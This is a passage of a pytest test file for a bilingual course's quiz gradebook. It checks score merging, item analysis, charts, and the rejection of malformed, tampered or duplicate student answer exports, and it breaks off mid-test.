"""The gradebook: a small hand-made class whose figures are worked out by
hand, every kind of bad file (reported by name and reason, never merged),
duplicates, the live quiz's CSV export read like its JSON, and the command
line with its exit codes."""

from __future__ import annotations

import csv
import io
import json
from fractions import Fraction
import re
import runpy
import subprocess
import sys
import textwrap
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup

import quiz_sample
from inprocess import run_lessons
from lessons import answers, gradebook
from lessons.bilingual import LanguageState
from lessons.grading import grade
from lessons.quizbank import load_bank
from lessons.widgets import Quiz

BANK = """
lesson: lesson-1
title: {zh: 測試課, en: Test lesson}
objectives:
  - {id: o, text: {zh: 目標, en: Objective}}
questions:
  - id: q-single
    type: single
    level: recall
    objective: o
    section: l1-a
    prompt: {zh: 問題一, en: Question one}
    options:
      - text: {zh: 甲, en: A}
        correct: true
      - text: {zh: 乙, en: B}
      - text: {zh: 丙, en: C}
    explanation: {zh: 說明一, en: Because one}
  - id: q-multi
    type: multiple
    level: recall
    objective: o
    section: l1-a
    prompt: {zh: 問題二, en: Question two}
    options:
      - text: {zh: 甲, en: A}
        correct: true
      - text: {zh: 乙, en: B}
      - text: {zh: 丙, en: C}
        correct: true
    hints: [{zh: 甲和丙再想想, en: Think again about A and C}]
    explanation: {zh: 說明二, en: Because two}
  - id: q-tf
    type: truefalse
    level: recall
    objective: o
    section: l1-a
    prompt: {zh: 問題三, en: Question three}
    answer: true
    explanation: {zh: 說明三, en: Because three}
  - id: q-year
    type: numeric
    level: recall
    objective: o
    section: l1-a
    prompt: {zh: 問題四, en: Question four}
    answer: 1991
    explanation: {zh: 說明四, en: Because four}
"""

# Worked by hand (the first attempt counts; 1 point a question; no hints, so
# after one wrong try the answer is shown and a retry earns nothing):
#             q-single      q-multi (A, C right)   q-tf   q-year   total / 4
#   alice     B=0, then A   A,C = 1                F = 0  1991=1   2    (50 %)
#   bob       C = 0         A = 1/2                T = 1  -        1.5  (37.5 %)
#   carol     B = 0         A,B,C (all) = 0        T = 1  1989=0   1    (25 %)
CLASS = {
    "alice": [("q-single", 1), ("q-single", 0), ("q-multi", [0, 2]), ("q-tf", False), ("q-year", 1991)],
    "bob": [("q-single", 2), ("q-multi", [0]), ("q-tf", True)],
    "carol": [("q-single", 1), ("q-multi", [0, 1, 2]), ("q-tf", True), ("q-year", 1989)],
}


@pytest.fixture
def course(tmp_path, monkeypatch):
    """A one-lesson course (the gradebook finds banks from the working folder)."""
    (tmp_path / "_toc.yml").write_text("root: book/index\n")
    (tmp_path / "book" / "quizzes").mkdir(parents=True)
    (tmp_path / "book" / "quizzes" / "lesson-1.yml").write_text(textwrap.dedent(BANK), encoding="utf-8")
    (tmp_path / "exports").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path


_BANKS: dict = {}


def bank():
    """The course's lesson-1 bank, parsed once per text (tests rewrite it):
    a class of answers asks for it per answer, and YAML parsing dominated."""
    path = Path("book/quizzes/lesson-1.yml")
    text = path.read_text(encoding="utf-8")
    if text not in _BANKS:
        _BANKS.clear()
        _BANKS[text] = load_bank(path)
    return _BANKS[text]


def answer(question_id, response, minute, **changes):
    question = bank().question(question_id)
    result = grade(question, response)
    entry = {
        "question": question_id,
        "question_hash": question.content_hash,
        "response": response,
        "score": result.score,
        "max_score": result.max_score,
        "status": result.status,
        "revealed": False,
        "time": f"2026-03-02T09:{minute:02d}:00Z",
    }
    return entry | changes


def export(student, attempts, start=0, **changes):
    items = [answer(q, r, start + n) for n, (q, r) in enumerate(attempts)]
    return answers.make_export("lesson-1", items, student, "book") | changes


def write(name, document):
    path = Path("exports") / name
    path.write_text(document if isinstance(document, str) else json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return str(path)


def write_class():
    for student, attempts in CLASS.items():
        write(f"{student}.json", export(student, attempts))


def skipped(results):
    return {item.file: item.reason for item in results.skipped}


# Merging and figures ------------------------------------------------------------


def test_scores_table_is_student_by_question_with_total(course):
    write_class()
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    scores = results.scores()
    assert list(scores.columns) == [
        "lesson-1 Q1 (q-single)", "lesson-1 Q2 (q-multi)", "lesson-1 Q3 (q-tf)", "lesson-1 Q4 (q-year)", "total", "possible", "percent",
    ]
    assert list(scores.index) == ["alice", "bob", "carol"]
    assert scores.loc["alice"].tolist()[:4] == [0, 1, 0, 1]
    assert scores.loc["bob"].tolist()[:3] == [0, 0.5, 1]
    assert scores["total"].tolist() == [2, 1.5, 1]
    assert scores["possible"].tolist() == [4, 4, 4]
    assert scores["percent"].tolist() == [50, 37.5, 25]
    assert pd.isna(scores.loc["bob", "lesson-1 Q4 (q-year)"]), "an unanswered question stays empty"


def test_lesson_totals(course):
    write_class()
    write("dave.json", export("dave", [("q-single", 0)]) | {"lesson": "lesson-2", "answers": []})
    (course / "book" / "quizzes" / "lesson-2.yml").write_text(
        textwrap.dedent(BANK).replace("lesson: lesson-1", "lesson: lesson-2"), encoding="utf-8"
    )
    write("erin.json", answers.make_export("lesson-2", [answer("q-tf", True, 1)], "erin"))
    totals = gradebook.read_class(["exports"]).lesson_totals()
    assert list(totals.columns) == ["lesson-1", "lesson-1 %", "lesson-2", "lesson-2 %", "total", "possible", "percent"]
    assert totals.loc["alice"].tolist()[:2] == [2, 50] and pd.isna(totals.loc["alice", "lesson-2"])
    assert totals.loc["erin", "lesson-2"] == 1 and totals.loc["erin", "total"] == 1
    # Percentages over the lessons each student did: erin did only lesson 2.
    assert (totals.loc["erin", "possible"], totals.loc["erin", "percent"]) == (4, 25)
    assert (totals.loc["alice", "possible"], totals.loc["alice", "percent"]) == (4, 50)
    assert "dave" not in totals.index, "an export with no answers adds no row"


def test_attempts_are_ordered_by_time_even_across_files(course):
    # A later file has a wrong answer, an earlier file (listed second) the right one: the first try counts.
    write("a-late.json", export("alice", [("q-single", 2)], start=30))
    write("b-early.json", export("alice", [("q-single", 0)], start=5))
    results = gradebook.read_class(["exports"])
    assert results.scores().loc["alice", "lesson-1 Q1 (q-single)"] == 1
    assert len(results.attempts) == 2, "both files are merged, nothing valid dropped"
    assert any("alice, lesson-1: 2 files" in note and "merged" in note for note in results.notes)


def test_item_analysis_figures(course):
    write_class()
    items = gradebook.read_class(["exports"]).items().set_index("question")
    assert items["answered"].tolist() == [3, 3, 3, 2]
    assert items["missed"].tolist() == [3, 2, 1, 1]
    assert items["max_points"].tolist() == [1, 1, 1, 1]
    assert items.loc["q-multi", "mean_points"] == pytest.approx(1 / 2)
    assert items["difficulty"].tolist() == pytest.approx([0, 1 / 2, 2 / 3, 1 / 2])
    assert items.loc["q-single", "attempts"] == pytest.approx(4 / 3)  # alice tried twice
    assert (items.loc["q-single", "level"], items.loc["q-single", "objective"]) == ("recall", "o")
    assert items.loc["q-tf", "prompt_en"] == "Question three"


def test_wrong_options_chosen_last_and_ever(course):
    write_class()
    options = gradebook.read_class(["exports"]).options().set_index(["question", "option"])
    assert options.loc[("q-single", 2), "chosen"] == 1  # carol, finally
    assert options.loc[("q-single", 2), "chosen_ever"] == 2  # alice tried it first
    assert options.loc[("q-single", 3), "chosen"] == 1  # bob
    assert bool(options.loc[("q-single", 1), "correct"])
    assert options.loc[("q-multi", 2), "chosen"] == 1  # carol ticked B
    assert options.loc[("q-tf", 2), ["text_en", "chosen"]].tolist() == ["False", 1]  # alice
    assert "q-year" not in options.index.get_level_values(0), "numeric questions have no options"


def test_most_missed_hardest_first(course):
    write_class()
    missed = gradebook.read_class(["exports"]).most_missed()
    assert missed["question"].tolist() == ["q-single", "q-multi", "q-year", "q-tf"]


def test_write_outputs_tables_and_chart(course):
    write_class()
    results = gradebook.read_class(["exports"])
    written, messages = results.write(course / "out")
    names = {path.name for path in written}
    assert {
        "scores.csv", "lessons.csv", "attempts-per-question.csv", "items.csv", "options.csv", "open-answers.csv",
        "attempts.csv", "skipped.csv", "item-analysis-lesson-1.svg",
    } <= names
    scores = pd.read_csv(course / "out" / "scores.csv", encoding="utf-8-sig", index_col="student")
    assert scores["total"].tolist() == [2, 1.5, 1]
    items = pd.read_csv(course / "out" / "items.csv", encoding="utf-8-sig")
    assert items["prompt_zh"].tolist()[0] == "問題一"
    svg = (course / "out" / "item-analysis-lesson-1.svg").read_text(encoding="utf-8")
    assert "每題得分比例" in svg and "Share of the points per question" in svg, "Chinese stays text in the SVG"
    assert "Question, numbered as students saw it" in svg
    # This machine has a CJK font (the browser tests need it), so a PNG is written too.
    assert "item-analysis-lesson-1.png" in names and messages == []


def test_chart_without_cjk_font_still_writes_svg_and_names_the_package(course, monkeypatch):
    write_class()
    monkeypatch.setattr(gradebook.chart, "installed_cjk_font", lambda: None)
    written, messages = gradebook.read_class(["exports"]).write(course / "out")
    assert [p.name for p in written if p.suffix in (".svg", ".png")] == ["item-analysis-lesson-1.svg"]
    assert "fonts-noto-cjk" in messages[0]


def test_wrong_options_and_the_chart_count_the_attempt_the_policy_counts(course):
    # alice picked option 2 of q-single first, then the right one; carol picked it last.
    write_class()
    counted = {}
    for count in ("first", "best", "last"):
        results = gradebook.read_class(["exports"], count=count)
        wrong = results.wrong_options().set_index(["question", "option"])
        counted[count] = int(wrong.loc[("q-single", 2), "counted"])
        assert int(wrong.loc[("q-single", 2), "chosen"]) == 1, "chosen stays the last attempt's"
        english = gradebook.figure_svg(results.chart("en"))
        assert f"Students who chose it ({count} attempts)" in english
        assert "(last attempt)" not in english or count == "last"
    # Best: alice's right answer came after the wrong one used her last hint
    # (late, credit 0), so of her two equal credits the earlier, wrong one counts.
    assert counted == {"first": 2, "best": 2, "last": 1}
    chinese = gradebook.figure_svg(gradebook.read_class(["exports"]).chart("zh-Hant"))
    assert "選它的學生人數（第一次作答）" in chinese


def test_chart_labels_follow_the_language(course):
    write_class()
    results = gradebook.read_class(["exports"])
    english = gradebook.figure_svg(results.chart("en"))
    chinese = gradebook.figure_svg(results.chart("zh-Hant"))
    assert "Share of the points" in english and "得分比例" not in english
    assert "得分比例" in chinese and "Share of the points" not in chinese


def test_chart_html_is_an_accessible_figure(course):
    write_class()
    page = gradebook.read_class(["exports"]).chart_html(id_prefix="gb")
    assert page.startswith('<figure class="lessons-gradebook-chart"><svg role="img"')
    assert 'aria-labelledby="gb-caption"' in page and '<figcaption id="gb-caption">' in page
    assert '<span lang="zh-Hant" class="bl-zh">' in page and '<span lang="en" class="bl-en">' in page
    assert "lesson-1, top: the share of the points on each of 4 questions (first attempts count), numbered as students saw them" in page
    assert "the hardest is lesson-1 Q1 (q-single): 0 % of the points · 3 of 3 students missed it at their first try" in page
    assert "Below: the wrong options chosen most often." in page and "下圖：最常被選的錯誤選項" in page
    assert "Missed: students who did not earn all its points at their first try, partly right included." in page


def test_two_charts_on_one_page_share_no_id_and_style_only_themselves(course):
    write_class()
    results = gradebook.read_class(["exports"])
    markup = results.chart_html("en") + results.chart_html("zh-Hant")
    assert not re.search(r">\s*\*\s*\{", markup), "matplotlib's page-wide '*{...}' rule is scoped"
    page = BeautifulSoup(markup, "html.parser")
    ids = [element["id"] for element in page.select("[id]")]
    assert len(ids) > 100, "matplotlib's SVG is full of ids (figure_1, patch_1, clip paths...)"
    assert [i for i, n in Counter(ids).items() if n > 1] == []
    svgs = page.select("svg")
    assert len(svgs) == 2
    for svg in svgs:
        own = {element["id"] for element in svg.select("[id]")}
        assert all(i.startswith(svg["id"] + "-") for i in own)
        markup = str(svg)
        references = re.findall(r"url\(#([^)]+)\)", markup) + re.findall(r'href="#([^"]+)"', markup)
        assert set(references) <= own, "every reference points into its own chart"
        assert page.find(id=svg["aria-labelledby"]).name == "figcaption"
        for style in svg.find_all("style"):
            rules = [rule.split("{")[0].strip() for rule in style.get_text().split("}") if "{" in rule]
            assert rules and all(rule.startswith(f"#{svg['id']} ") for rule in rules), rules
    assert "<metadata" not in str(page) and "<?xml" not in str(page)


def test_summary_names_skipped_files_and_most_missed(course):
    write_class()
    write("broken.json", "{not json")
    summary = gradebook.read_class(["exports"]).summary("en")
    assert "Read 3 files: 3 students, lessons lesson-1" in summary
    assert "exports/broken.json: is not valid JSON" in summary
    assert "lesson-1 Q1 (q-single): 0 % of the points · 3 of 3 students missed it at their first try" in summary
    assert "100 % = everyone fully right" in summary
    assert "Mean score 37.5% (first attempts count; over the lessons each student did)" in summary
    assert "最常" not in summary
    assert "最常答錯的題目" in gradebook.read_class(["exports"]).summary("zh-Hant")


@pytest.mark.parametrize(
    ("tries", "expected"),
    [
        # one hint: a retry after one wrong try still earns
        ([[0], [0, 2]], {"first": 0.5, "best": 1, "last": 1}),
        # two wrong tries use up the hint: the answer is shown, the third try earns nothing
        ([[0], [1], [0, 2]], {"first": 0.5, "best": 0.5, "last": 0}),
    ],
    ids=["retry-within-hints", "retry-after-the-answer-was-shown"],
)
def test_count_policy_first_best_last(course, tries, expected):
    write("alice.json", export("alice", [("q-multi", t) for t in tries]))
    for policy, points in expected.items():
        results = gradebook.read_class(["exports"], count=policy)
        assert results.scores().loc["alice", "lesson-1 Q2 (q-multi)"] == points, policy
        assert results.attempts_per_question().loc["alice", "lesson-1 Q2 (q-multi)"] == len(tries)
    with pytest.raises(ValueError, match="first, best, last"):
        gradebook.read_class(["exports"], count="mean")


def test_the_command_line_takes_the_counting_policy(course):
    write("alice.json", export("alice", [("q-multi", [0]), ("q-multi", [0, 2])]))
    for policy, total in (("first", "0.5"), ("best", "1")):
        result = run_cli("exports", "--out", f"out-{policy}", "--count", policy, "--lang", "en", cwd=course)
        assert result.returncode == 0, result.stderr
        assert f"{policy} attempts count" in result.stdout
        assert pd.read_csv(f"out-{policy}/scores.csv", encoding="utf-8-sig")["total"].astype(str).tolist() == [total]


def test_a_version_1_export_is_graded_again_under_the_new_rules_and_said_so(course):
    old = export("gina", [("q-multi", [0, 1, 2])]) | {"version": 1}
    # Version 1 gave 2/3 for ticking everything ("decisions right"); no revealed flags.
    old["answers"] = [{k: v for k, v in a.items() if k != "revealed"} | {"score": 2, "max_score": 3} for a in old["answers"]]
    write("gina.json", old)
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    assert results.scores().loc["gina", "lesson-1 Q2 (q-multi)"] == 0, "everything chosen scores 0 now"
    assert any(note.startswith("1 file(s) in answers format version 1") and "graded again" in note for note in results.notes)


def test_open_answers_are_listed_with_the_self_assessment_never_right_or_wrong(course):
    bank_file = course / "book" / "quizzes" / "lesson-1.yml"
    open_question = (
        "  - id: q-open\n    type: open\n    level: evaluate\n    objective: o\n    section: l1-a\n"
        "    prompt: {zh: 說明原因, en: Explain why}\n    model_answer: {zh: 參考答案, en: A model answer}\n"
        "    rubric: [{zh: 標準一, en: One}, {zh: 標準二, en: Two}, {zh: 標準三, en: Three}]\n"
        "    explanation: {zh: 說明, en: Why}\n"
    )
    bank_file.write_text(bank_file.read_text(encoding="utf-8") + open_question, encoding="utf-8")
    write_class()
    write("hana.json", export("hana", [("q-single", 0), ("q-open", {"text": "=因為制裁", "met": [0, 2]})]))
    results = gradebook.read_class(["exports"])
    opened = results.open_answers()
    assert opened[["student", "answer", "self_assessed", "criteria_met"]].values.tolist() == [["hana", "=因為制裁", "2/3", "One; Three"]]
    assert not [c for c in results.scores().columns if "q-open" in c], "never scored"
    assert results.scores().loc["hana", "possible"] == 4
    item = results.items().set_index("question").loc["q-open"]
    assert pd.isna(item["difficulty"]) and pd.isna(item["missed"]) and item["self_assessed"] == pytest.approx(2 / 3)
    results.write(course / "out")
    written = pd.read_csv(course / "out" / "open-answers.csv", encoding="utf-8-sig")
    assert written["answer"].tolist() == ["'=因為制裁"], "a student's text never runs as a formula"
    assert "self-assessed open answers" in results.summary("en")


# Bad files: reported by name with the reason, valid ones still merged ------------------


def malformed_cases():
    good = lambda: export("dave", [("q-single", 0)])  # noqa: E731
    return {
        "not-json.json": ("{oops", "is not valid JSON (line 1, column 2"),
        "not-utf8.json": (None, "is not UTF-8 text"),
        "a-list.json": ("[1, 2]", 'not a lessons answers file (expected "format": "lessons-answers")'),
        "other-format.json": (lambda: good() | {"format": "moodle"}, "not a lessons answers file"),
        "version-3.json": (lambda: good() | {"version": 3}, "answers format version 3; this course reads versions 1, 2"),
        "other-course.json": (lambda: good() | {"course": "history-101"}, "from another course ('history-101')"),
        "old-course.json": (lambda: good() | {"course_version": "0.9.0"}, "from course version '0.9.0'"),
        "no-answers.json": (lambda: good() | {"answers": "none"}, "'answers' is missing or not a list"),
        "no-student.json": (lambda: good() | {"student": "  "}, "has no student name or alias"),
        "bad-score.json": (
            lambda: good() | {"answers": [answer("q-single", 0, 1, score=2)]},
            "answer 1 (q-single): score is above max_score",
        ),
        "bad-points-shown.json": (
            lambda: good() | {"answers": [answer("q-single", 0, 1, earned=2, points=1)]},
            "answer 1 (q-single): earned and points must be numbers with 0 <= earned <= points (found 2 and 1)",
        ),
        "half-points-shown.json": (
            lambda: good() | {"answers": [answer("q-single", 0, 1, earned=1)]},
            "answer 1 (q-single): earned and points must be numbers with 0 <= earned <= points (found 1 and None)",
        ),
        "unknown-lesson.json": (lambda: good() | {"lesson": "lesson-9"}, "lesson 'lesson-9' is not in this course"),
        "unknown-question.json": (
            lambda: good() | {"answers": [answer("q-single", 0, 1), answer("q-single", 0, 2, question="q-gone")]},
            "answer 2: unknown question id 'q-gone' in lesson-1",
        ),
        "tampered.json": (
            lambda: good() | {"answers": [answer("q-single", 2, 1, score=1, status="correct")]},
            "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited",
        ),
        "tampered-no-hash.json": (
            lambda: good() | {"answers": [{k: v for k, v in answer("q-single", 2, 1, score=1).items() if k != "question_hash"}]},
            "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited (it has no question_hash",
        ),
        "other-major-version.json": (
            lambda: good() | {"course_version": "2.0.0"},
            f"from course version '2.0.0', this is {answers.course_version()!r}: another major version of the course",
        ),
        "no-version.json": (
            lambda: good() | {"course_version": "latest"},
            f"course_version 'latest' is not a version number such as {answers.course_version()!r}",
        ),
        "deeply-nested.json": ("[" * 100_000, "is nested too deeply to be an answers file"),
        "huge-number.json": ('{"format": "lessons-answers", "version": ' + "9" * 5000 + "}", "is not usable JSON"),
        "bad-time.json": (
            lambda: good() | {"answers": [answer("q-single", 0, 1, time="yesterday")]},
            "answer 1 (q-single): time 'yesterday' is not an ISO 8601 date",
        ),
    }


@pytest.mark.parametrize("name", sorted(malformed_cases()))
def test_each_malformed_file_is_skipped_by_name_with_reason(course, name):
    content, reason = malformed_cases()[name]
    write_class()
    path = Path("exports") / name
    if content is None:
        path.write_bytes(b'{"format": "\xff\xfe"}')
    else:
        write(name, content() if callable(content) else content)
    results = gradebook.read_class(["exports"])
    assert list(skipped(results)) == [str(path)]
    assert reason in skipped(results)[str(path)]
    assert results.scores()["total"].tolist() == [2, 1.5, 1], "the valid files are all still merged"
    assert "dave" not in results.students


def test_edited_question_with_the_same_grade_is_kept_with_a_note(course):
    write("erin.json", export("erin", [("q-single", 0)]) | {"answers": [answer("q-single", 0, 1, question_hash="0" * 12)]})
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    assert results.students == ["erin"]
    assert results.notes == (
        "lesson-1/q-single: edited in the bank after 1 of these answers were given; "
        "the grader gives them the same score, so they are kept",
    )


KEY_A = """\
      - text: {zh: 甲, en: A}
        correct: true
      - text: {zh: 乙, en: B}
      - text: {zh: 丙, en: C}
    explanation: {zh: 說明一"""
KEY_B = """\
      - text: {zh: 甲, en: A}
      - text: {zh: 乙, en: B}
        correct: true
      - text: {zh: 丙, en: C}
    explanation: {zh: 說明一"""


def correct_the_key_of_q_single(course):
    """The instructor corrects q-single's answer key after the class answered: B, not A."""
    assert textwrap.dedent(BANK).count(KEY_A) == 1
    corrected = textwrap.dedent(BANK).replace(KEY_A, KEY_B)
    (course / "book" / "quizzes" / "lesson-1.yml").write_text(corrected, encoding="utf-8")


def regraded(where, recorded, now):
    return (
        f"exports/{where}: recorded {recorded}, regraded {now} "
        "(the question was edited in the bank after it was answered; the regraded score counts)"
    )


def test_a_corrected_answer_key_regrades_and_keeps_every_file(course):
    write_class()  # alice: B then A; bob: C; carol: B (A was right when they answered)
    correct_the_key_of_q_single(course)
    results = gradebook.read_class(["exports"])
    assert results.skipped == (), "an edited question is no reason to refuse a file"
    scores = results.scores()
    # alice's first try (B) is right now, carol's too: the regraded first try counts.
    assert scores["lesson-1 Q1 (q-single)"].tolist() == [1, 0, 1], "the regraded score counts"
    assert scores["total"].tolist() == [3, 1.5, 2]
    assert results.notes == (
        # bob chose C: wrong before and after, so only counted
        "lesson-1/q-single: edited in the bank after 1 of these answers were given; "
        "the grader gives them the same score, so they are kept",
        regraded("alice.json: alice, lesson-1/q-single", "0/1", "1/1"),
        regraded("alice.json: alice, lesson-1/q-single", "1/1", "0/1"),
        regraded("carol.json: carol, lesson-1/q-single", "0/1", "1/1"),
    )
    carol = results.attempts[(results.attempts["student"] == "carol") & (results.attempts["question"] == "q-single")]
    assert carol["status"].tolist() == ["correct"]


def test_a_score_edited_by_hand_refuses_the_file_even_after_a_key_correction(course):
    write_class()
    correct_the_key_of_q_single(course)
    edited = export("dave", [("q-single", 2), ("q-tf", True)])  # answered after the correction: current hash
    edited["answers"][0] |= {"score": 1, "status": "correct"}
    write("dave.json", edited)
    results = gradebook.read_class(["exports"])
    assert list(skipped(results)) == ["exports/dave.json"]
    assert skipped(results)["exports/dave.json"] == (
        "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited (the question is "
        "unchanged since it was answered, so its score cannot differ): ask the student to export again rather "
        "than editing the file"
    )
    assert "dave" not in results.students, "an edited file is skipped whole, not merged in part"
    assert results.students == ["alice", "bob", "carol"]


def test_an_export_of_the_same_major_version_is_read(course):
    major = answers.major_version(answers.course_version())
    write_class()
    write("dave.json", export("dave", [("q-single", 0)]) | {"course_version": f"{major}.99.7"})
    write("erin.json", export("erin", [("q-single", 0)]) | {"course_version": f"{major}.0.0"})
    write("frank.json", export("frank", [("q-single", 0)]) | {"course_version": f"{major + 1}.0.0"})
    results = gradebook.read_class(["exports"])
    assert {"dave", "erin"} <= set(results.students) and "frank" not in results.students
    assert skipped(results) == {
        "exports/frank.json": f"from course version '{major + 1}.0.0', this is {answers.course_version()!r}: "
        "another major version of the course, whose questions may differ: ask the student to export again "
        "from the current book"
    }


def test_the_version_is_written_once():
    import tomllib

    import lessons

    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    assert "version" not in project["project"] and "version" in project["project"]["dynamic"]
    assert project["tool"]["setuptools"]["dynamic"]["version"] == {"attr": "lessons.__version__"}
    assert answers.course_version() == lessons.__version__
    assert answers.major_version(lessons.__version__) is not None


def test_exact_copy_is_a_duplicate(course):
    write_class()
    Path("exports/bob (1).json").write_bytes(Path("exports/bob.json").read_bytes())
    reasons = skipped(gradebook.read_class(["exports"]))
    assert reasons == {"exports/bob (1).json": "duplicate: an exact copy of exports/bob.json"}


def test_same_student_lesson_and_answers_exported_twice_is_a_duplicate(course):
    write_class()
    again = json.loads(Path("exports/carol.json").read_text()) | {"exported_at": "2026-03-03T08:00:00Z", "source": "notebook"}
    write("carol-again.json", again)
    results = gradebook.read_class(["exports"])
    assert skipped(results) == {
        "exports/carol-again.json": "duplicate: same student, lesson and answers as exports/carol.json"
    }
    assert results.scores()["total"].tolist() == [2, 1.5, 1]


def test_missing_path_and_empty_folder_are_reported(course):
    write_class()
    Path("empty").mkdir()
    results = gradebook.read_class(["exports", "nowhere.json", "empty"])
    assert skipped(results) == {
        "nowhere.json": "no such file or folder: check the path",
        "empty": "folder has no .json or .csv export files in it",
    }
    assert len(results.files_read) == 3


def test_the_same_attempt_in_two_files_counts_once(course):
    first = export("frank", [("q-single", 2), ("q-tf", True)])
    second = export("frank", [("q-single", 2), ("q-tf", True), ("q-single", 0)])
    write("frank-1.json", first)
    write("frank-2.json", second)
    results = gradebook.read_class(["exports"])
    assert len(results.attempts) == 3
    # q-single: wrong first (0; the retry came after the answer was shown), q-tf right.
    assert results.scores().loc["frank", "total"] == 1


# The live quiz's CSV export: read like its JSON export ---------------------------------


def play(quiz):
    """Answer every question through the quiz's widgets, as a student would:
    a wrong or partial first try where the type allows one, then the right answer."""
    for view in quiz.questions:
        for right in (False, True):
            _set_answer(view, right)
            view.check()
            if view.question.type == "open":  # the first Check shows the model answer; tick one criterion, save
                view.controls[2].value = True
                view.check()
                break
            if view.grade.status == "correct":
                break
            view.retry()


def _set_answer(view, right):
    q, controls = view.question, view.controls
    if q.type == "single":
        controls[0].value = next(i for i, o in enumerate(q.options) if o.correct == right)
    elif q.type == "multiple":
        for number, (option, box) in enumerate(zip(q.options, controls)):
            box.value = option.correct if right else number == 0
    elif q.type == "truefalse":
        controls[0].value = q.answer == right
    elif q.type in ("numeric", "text"):
        controls[0].value = {"numeric": ("1989", "１９９１"), "text": ("China", " Developing Countries! ")}[q.type][right]
    elif q.type == "ordering":
        for item, dropdown in zip(view.item_order, controls):
            dropdown.value = item + 1 if right else len(controls) - item
    elif q.type == "classify":  # only the first statement placed on the first try
        for number, (statement, dropdown) in enumerate(zip(q.statements, controls)):
            dropdown.value = statement.category if right or number == 0 else None
    elif q.type == "open":
        controls[0].value = "兩國在蘇聯解體後轉向彼此。"
    else:  # matching: only the first term matched on the first try, the others left empty (null)
        for term, dropdown in enumerate(controls):
            dropdown.value = term if right or term == 0 else None


def test_live_quiz_csv_export_gives_the_same_scores_as_its_json_export(tmp_path):
    bank = quiz_sample.load(tmp_path)
    quiz = Quiz(bank, language=LanguageState(mode="en"))
    play(quiz)
    assert {a["status"] for a in quiz.attempts} == {"correct", "incorrect", "partial", "self-assessed"}
    for kind in ("json", "csv"):
        (tmp_path / kind).mkdir()
    quiz.export_json(tmp_path / "json" / "wang.json", student="王小明")
    quiz.export_csv(tmp_path / "csv" / "wang.csv", student="王小明")
    banks = {bank.lesson: bank}
    from_json = gradebook.read_class([tmp_path / "json"], banks)
    from_csv = gradebook.read_class([tmp_path / "csv"], banks)
    assert from_csv.skipped == () and from_csv.files_read == (str(tmp_path / "csv" / "wang.csv"),)
    pd.testing.assert_frame_equal(from_csv.scores(), from_json.scores())
    pd.testing.assert_frame_equal(from_csv.attempts.drop(columns="file"), from_json.attempts.drop(columns="file"))
    assert len(from_csv.attempts) == len(quiz.attempts)
    # The gradebook counts what the live quiz counted: each first try (the open answer in no total).
    first_tries = sum(float(Fraction(*view.progress().first)) for view in quiz.questions if view.question.type != "open")
    assert from_csv.scores().loc["王小明", "total"] == pytest.approx(first_tries)
    assert from_csv.open_answers()["self_assessed"].tolist() == ["1/3"]


def test_the_csv_and_json_of_one_export_are_duplicates(tmp_path):
    bank = quiz_sample.load(tmp_path)
    quiz = Quiz(bank, language=LanguageState(mode="en"))
    play(quiz)
    quiz.export_json(tmp_path / "wang.json", student="王小明")
    quiz.export_csv(tmp_path / "wang.csv", student="王小明")
    results = gradebook.read_class([tmp_path / "wang.json", tmp_path / "wang.csv"], {bank.lesson: bank})
    assert skipped(results) == {
        str(tmp_path / "wang.csv"): f"duplicate: same student, lesson and answers as {tmp_path / 'wang.json'}"
    }


def quiz_csv_rows():
    """The rows of a real live-quiz CSV export: dave tries q-single twice and answers q-tf."""
    quiz = Quiz(bank(), language=LanguageState(mode="en"))
    for view in quiz.questions[:1] + quiz.questions[2:3]:
        for right in (False, True):
            _set_answer(view, right)
            view.check()
            view.retry()
    path = quiz.export_csv(Path("dave.csv"), student="dave")
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def csv_text(rows, columns=answers.CSV_COLUMNS):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def malformed_csv_cases():
    renamed = [c if c != "response" else "answer" for c in answers.CSV_COLUMNS]
    return {
        "wrong-columns.csv": (
            lambda rows: csv_text([r | {"answer": r["response"]} for r in rows], renamed),
            "is not a lessons answers CSV (missing column(s) response; unknown column(s) answer): the header must be course,",
        ),
        "two-students.csv": (
            lambda rows: csv_text([rows[0], rows[1] | {"student": "erin"}]),
            "line 3: student 'erin' differs from 'dave' on line 2: one file must hold one student's export of one lesson",
        ),
        "two-lessons.csv": (
            lambda rows: csv_text([rows[0], rows[1] | {"lesson": "lesson-2"}]),
            "line 3: lesson 'lesson-2' differs from 'lesson-1' on line 2",
        ),
        "bad-response.csv": (
            lambda rows: csv_text([rows[0] | {"response": "[0, 2"}]),
            "line 2 (q-single): response '[0, 2' is not valid JSON (Expecting ',' delimiter)",
        ),
        "not-utf8.csv": (
            lambda rows: csv_text([r | {"student": "王小明"} for r in rows]).encode("cp950"),
            "is not UTF-8 text: hand in the answers file as exported",
        ),
        "empty.csv": (lambda rows: "", "is empty: a CSV export starts with the header course,course_version,"),
        "header-only.csv": (lambda rows: csv_text([]), "has a header but no attempts"),
        "short-row.csv": (lambda rows: csv_text(rows) + "lesson-1,dave\n", "line 6 has 2 fields, the header has 16"),
        "score-text.csv": (
            lambda rows: csv_text([rows[0] | {"score": "one"}]),
            "answer 1 (q-single): score must be a whole number >= 0",
        ),
        "tampered.csv": (
            lambda rows: csv_text([rows[0] | {"score": "1", "status": "correct"}]),
            "answer 1 (q-single): recorded score 1/1 (0 of 1 points shown) but the grader gives 0/1 (0 of 1 points shown): the file was edited",
        ),
        "old-course.csv": (
            lambda rows: csv_text([r | {"course_version": "0.9.0"} for r in rows]),
            "from course version '0.9.0'",
        ),
        "deep-response.csv": (
            lambda rows: csv_text([rows[0] | {"response": "[" * 100_000}]),
            "line 2 (q-single): response is nested too deeply to be an answer",
        ),
    }


def test_a_real_csv_export_is_read(course):
    write_class()
    rows = quiz_csv_rows()
    assert [(r["question"], r["status"]) for r in rows] == [
